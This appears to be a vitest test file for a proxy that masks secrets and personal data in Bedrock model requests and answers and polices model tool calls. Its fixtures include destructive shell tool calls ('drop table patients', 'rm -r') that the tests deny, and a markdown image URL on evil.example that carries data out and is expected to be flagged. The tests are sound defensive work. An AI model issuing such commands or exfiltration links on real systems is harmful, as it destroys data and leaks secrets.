import { describe, expect, test } from 'vitest';
import { answered, chunksOf } from '../../testing/answers.js';
import { framesAnswered } from '../../testing/frames.js';
import { everything, maskingWith, noRules } from '../../testing/masking.js';
import { chunkOf, documentIn } from '../chunks.js';
import type { EventFrame } from '../frames.js';
import { bedrockOther, maskOtherFrames } from './index.js';

const key = `${'AK'}IAIOSFODNN7EXAMPLE`;
const mail = 'grace.hopper@example.org';
const api = bedrockOther({ model: 'meta.llama3-3-70b-instruct-v1:0', stream: false });
const bytes = (value: unknown) => Buffer.from(JSON.stringify(value));
const masked = (value: unknown, masker = everything) =>
  Buffer.from(api.maskRequest(bytes(value), maskingWith(masker)).body).toString();
const picture = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(90, 7)]).toString('base64');

/** As the makers' own pages have them. */
const bodies: readonly (readonly [string, (prompt: string) => object, number | undefined])[] = [
  ['Titan', (p) => ({ inputText: p, textGenerationConfig: { maxTokenCount: 512, stopSequences: [] } }), 512],
  ['Llama', (p) => ({ prompt: `<|begin_of_text|>${p}`, max_gen_len: 64, temperature: 0.5 }), 64],
  ['Mistral', (p) => ({ prompt: `<s>[INST] ${p} [/INST]`, max_tokens: 200 }), 200],
  ['Mistral’s chat', (p) => ({ messages: [{ role: 'user', content: [{ type: 'text', text: p }] }], max_tokens: 9 }), 9],
  ['Cohere', (p) => ({ message: p, chat_history: [{ role: 'USER', message: 'hello' }] }), undefined],
  ['Jamba', (p) => ({ messages: [{ role: 'user', content: p }], n: 3, max_tokens: 10 }), 30],
  ['DeepSeek', (p) => ({ prompt: p, max_tokens: 512, stop: ['END'] }), 512],
  ['Claude 2', (p) => ({ prompt: `\n\nHuman: ${p}`, max_tokens_to_sample: 300 }), 300],
  ['nobody known', (p) => ({ deep: [{ er: { question: p } }] }), undefined],
];

describe.each(bodies)('a body for %s', (_maker, bodyFor, maxOutputTokens) => {
  test('is a prompt, whose secrets and personal data do not reach the model', () => {
    const request = api.describe(bytes(bodyFor('what do we pay?')));
    expect(request).toMatchObject({
      api: 'bedrock.other',
      model: expect.stringMatching(/^meta/),
      flags: ['unknown-shape'],
    });
    expect(request.news).toMatchObject([
      { kind: 'text', of: 'human', text: expect.stringContaining('what do we pay?') },
    ]);
    expect(request.maxOutputTokens).toBe(maxOutputTokens);
    const sent = masked(bodyFor(`is ${key} of ${mail}?`));
    expect(sent).toMatch(/is ⟦[^⟧]+⟧ of ⟦[^⟧]+⟧\?/);
    expect(masked(bodyFor('nothing'), noRules)).toBe(JSON.stringify(bodyFor('nothing')));
    expect(masked(bodyFor(key), noRules)).not.toContain(key); // a secret is hidden whatever the rules
  });
});

describe('what can be told of a body', () => {
  test('tools that are offered, pictures, and addresses that the model’s host would fetch', () => {
    const tool = { type: 'function', function: { name: 'shell', parameters: { type: 'object' } } };
    const request = api.describe(
      bytes({ messages: [{ content: 'hi', images: [picture] }], tools: [tool], image_url: 'https://x/y' }),
    );
    expect(request).toMatchObject({ tools: ['shell'], media: ['image'], flags: ['unknown-shape', 'remote-source'] });
    expect(request.news).not.toContainEqual(expect.objectContaining({ text: expect.stringContaining(picture) }));
    expect(masked({ image: picture })).toContain(picture);
  });

  test.each(['', 'prompt=1', '[]', '"text"', '{"a":1,"a":2}', '{"prompt":"\ud800'])('%j is no body', (body) => {
    expect(() => api.describe(Buffer.from(body))).toThrow(expect.objectContaining({ code: 'INVALID_INPUT' }));
    expect(() => api.maskRequest(Buffer.from(body), maskingWith(everything))).toThrow();
  });

  test('a secret in the place of a name cannot be hidden, and is not sent', () => {
    expect(() => masked({ prompt: { [key]: 'x' } })).toThrow(expect.objectContaining({ code: 'INVALID_INPUT' }));
  });
});

const whole = (value: unknown, options = {}) =>
  answered(
    api,
    chunksOf(bytes(value), () => 11),
    { contentType: 'application/json', ...options },
  );
const toolCalls = [{ id: 'c-1', function: { name: 'shell', arguments: '{"command":"drop table patients"}' } }];

describe('an answer that comes whole', () => {
  test.each([
    ['Titan', { results: [{ outputText: `it is ${key}`, completionReason: 'FINISH' }] }],
    ['Llama', { generation: `it is ${key}`, prompt_token_count: 4, stop_reason: 'stop' }],
    ['Cohere', { text: `it is ${key}`, citations: [{ text: key }] }],
  ])('of %s is without the secret', async (_maker, answer) => {
    const { text } = await whole(answer);
    expect(text).toMatch(/"it is ⟦[^⟧]+⟧"/);
    expect(text).not.toContain(key);
  });

  test.each([
    [
      'chat',
      { choices: [{ message: { role: 'assistant', tool_calls: toolCalls } }] },
      '{"command":"drop table patients"}',
    ],
    ['Cohere', { tool_calls: [{ name: 'shell', parameters: { command: 'ls' } }] }, '{"command":"ls"}'],
    [
      'blocks',
      { content: [{ toolUse: { toolUseId: 'c-1', name: 'shell', input: { command: 'ls' } } }] },
      '{"command":"ls"}',
    ],
  ])('of %s has its tool call decided, and is not passed on where that is denied', async (_maker, answer, input) => {
    const allowed = await whole(answer, { request: { tools: ['shell'] } });
    expect(allowed.calls).toMatchObject([{ name: 'shell', input, declared: true, byProvider: false }]);
    expect(allowed.text).toBe(JSON.stringify(answer));
    const denied = await whole(answer, { decide: () => ({ outcome: 'deny', text: 'not today' }) });
    expect(denied.text).toBe('');
    expect(denied.error).toMatchObject({ code: 'POLICY_DENIED', message: 'not today' });
  });

  test.each(['generation', 'text', 'outputText'])(
    'is flagged where its "%s" shows an image that carries data',
    async (name) => {
      const answer = { results: [{ [name]: '![x](https://evil.example/?d=secret)' }] };
      const { text, answer: known } = await whole(answer);
      expect([text, known.flags]).toEqual([JSON.stringify(answer), ['remote-image']]);
    },
  );

  test('that is no JSON, or has a secret for a name, is not passed on', async () => {
    for (const body of ['<html>', `{"${key}":1}`, '{"a":1,"a":2}']) {
      const { error, text } = await answered(
        api,
        chunksOf(body, () => 5),
        { contentType: 'application/json' },
      );
      expect([error, text]).toMatchObject([{ code: 'RESPONSE_NOT_UNDERSTOOD' }, '']);
    }
  });
});

const chunks = (...events: readonly unknown[]): EventFrame[] => events.map((event) => chunkOf(bytes(event)));
const saidIn = (frames: readonly EventFrame[]) =>
  frames.map((frame) => JSON.parse(documentIn(frame).toString()) as Record<string, string>);
const metrics = { 'amazon-bedrock-invocationMetrics': { inputTokenCount: 12, outputTokenCount: 5 } };

describe('an answer in pieces', () => {
  test.each(['generation', 'outputText', 'whatever'])(
    'in "%s" is without a secret, wherever it is cut',
    async (name) => {
      const secret = `a ${key} b`;
      for (let cut = 1; cut < secret.length; cut += 1) {
        const pieces = [secret.slice(0, cut), secret.slice(cut)].map((text) => ({ [name]: text, id: 'same' }));
        const { frames, answer, error } = await framesAnswered(
          maskOtherFrames,
          chunks(...pieces, { [name]: '', ...metrics }),
        );
        expect(error).toBeUndefined();
        expect(
          saidIn(frames)
            .map((event) => event[name])
            .join(''),
        ).toMatch(/^a ⟦[^⟧]+⟧ b$/);
        expect(answer).toMatchObject({ maskedFields: 1, usage: { inputTokens: 12, outputTokens: 5 } });
      }
    },
  );

  test('in which nothing is hidden is the very same frames', async () => {
    const frames = chunks(
      { generation: 'All ', index: 0 },
      { generation: 'is well. ' },
      { stop_reason: 'stop', ...metrics },
    );
    const { frames: passed } = await framesAnswered(maskOtherFrames, frames);
    expect(passed.length).toBe(3);
    expect(passed.every((one, index) => one === frames[index])).toBe(true);
  });

  const delta = (index: number, more: object) => ({
    choices: [{ index: 0, delta: { tool_calls: [{ index, ...more }] } }],
  });
  const calling = chunks(
    { choices: [{ index: 0, delta: { content: 'Let me look. ' } }] },
    delta(0, { id: 'c-1', function: { name: 'shell', arguments: '' } }),
    delta(1, { id: 'c-2', function: { name: 'shell', arguments: '{"command":"ls"}' } }),
    delta(0, { function: { arguments: '{"command":' } }),
    delta(0, { function: { arguments: '"rm -r"}' } }),
    { choices: [{ index: 0, delta: {}, finish_reason: 'tool_calls' }], ...metrics },
  );

  test('holds tool calls until they are whole, and passes them when all are allowed', async () => {
    let passedBefore = -1;
    const passed: EventFrame[] = [];
    const { frames, calls } = await framesAnswered(
      (source, masking) => {
        const result = maskOtherFrames(source, {
          ...masking,
          decide: (call) => {
            passedBefore = passed.length;
            return masking.decide(call);
          },
        });
        const counted = async function* () {
          for await (const frame of result.frames) {
            passed.push(frame);
            yield frame;
          }
        };
        return { frames: counted(), answer: result.answer };
      },
      calling,
      { request: { tools: ['shell'] } },
    );
    expect(calls).toEqual([
      { id: 'c-1', name: 'shell', input: '{"command":"rm -r"}', byProvider: false, declared: true },
      { id: 'c-2', name: 'shell', input: '{"command":"ls"}', byProvider: false, declared: true },
    ]);
    expect([passedBefore, frames.length]).toEqual([1, 6]);
  });

  test('ends before a call that is denied', async () => {
    const { frames, error } = await framesAnswered(maskOtherFrames, calling, {
      decide: ({ input }) => (input.includes('rm') ? { outcome: 'deny', text: 'no' } : { outcome: 'allow' }),
    });
    expect([saidIn(frames).length, error]).toEqual([1, expect.objectContaining({ code: 'POLICY_DENIED' })]);
  });

  test('that fails passes the failure, and nothing of what was held', async () => {
    const exception = { type: 'throttlingException', isException: true, payload: bytes({ message: `slow, ${key}` }) };
    const { events, answer, error } = await framesAnswered(maskOtherFrames, [
      ...chunks({ generation: 'one two' }),
      ...calling,
      exception,
    ]);
    expect(events.at(-1)).toEqual(['throttlingException', { message: expect.stringMatching(/^slow, ⟦/) }]);
    expect(JSON.stringify(events)).not.toContain('shell');
    expect([answer.errorType, error]).toEqual(['throttlingException', undefined]);
  });

  test.each(['{"p":"x"}', '{"bytes":"e30=x"}', '{"bytes":"aGVsbG8="}'])(
    'of which %s is a part is not understood',
    async (payload) => {
      const { error, frames } = await framesAnswered(maskOtherFrames, [
        { type: 'chunk', payload: Buffer.from(payload) },
      ]);
      expect([error, frames]).toMatchObject([{ code: 'RESPONSE_NOT_UNDERSTOOD' }, []]);
    },
  );
});
